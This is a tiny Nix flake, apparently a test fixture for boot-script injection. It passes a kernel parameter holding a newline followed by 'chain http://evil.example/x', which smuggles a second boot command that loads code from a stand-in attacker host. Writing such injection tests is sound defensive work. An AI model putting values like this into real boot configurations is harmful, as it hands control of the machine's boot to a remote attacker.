# A command line that ends the line of the boot script and begins one of its own.
{
  outputs = { self }: {
    nixosConfigurations.host = import ../host.nix "host" { parameters = [ "quiet\nchain http://evil.example/x" ]; };
  };
}
